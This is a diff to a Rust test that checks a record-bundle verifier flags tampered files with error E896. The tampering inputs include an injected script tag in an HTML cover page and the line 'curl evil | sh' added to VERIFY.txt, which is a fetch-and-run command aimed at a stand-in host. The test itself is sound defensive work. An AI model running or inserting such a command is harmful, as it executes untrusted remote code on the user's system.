@@ -683,8 +683,24 @@ fn forged_by_the_sealer(company: &Company, files: &Files, case: &str) {
 fn a_period_cannot_leave_out_what_its_lines_show() {
     let (company, _) = company();
     let (_, path) = made(&company, &whole_range());
-    let files = tamper::without_log(files_of(&path));
-    assert_eq!(forged(&company, files.clone()), Vec::<String>::new());
+    let whole = files_of(&path);
+    assert_eq!(forged(&company, whole.clone()), Vec::<String>::new());
+    for (page, words) in [
+        (
+            "data/00-COVER.html",
+            "<p>NOT PROVEN: nothing</p><script></script>",
+        ),
+        ("data/00-COVER.txt", "NOT PROVEN: nothing"),
+        ("VERIFY.txt", "curl evil | sh"),
+        ("bag-info.txt", "Dsr-Keep-Until: 1999-01-01"),
+    ] {
+        let mut lie = whole.clone();
+        tamper::file_mut(&mut lie, page).extend(format!("{words}\n").into_bytes());
+        assert_eq!(forged(&company, lie), ["E896"], "{page}");
+    }
+    // Of a period without a log its own cover knows better.
+    let files = tamper::without_log(whole);
+    assert_eq!(forged(&company, files.clone()), ["E896"]);
     let said: Value = serde_json::from_slice(tamper::file(&files, "data/statement.json")).unwrap();
     let gaps = said["predicate"]["notProven"].as_array().unwrap();
     let mut seen = Vec::new();
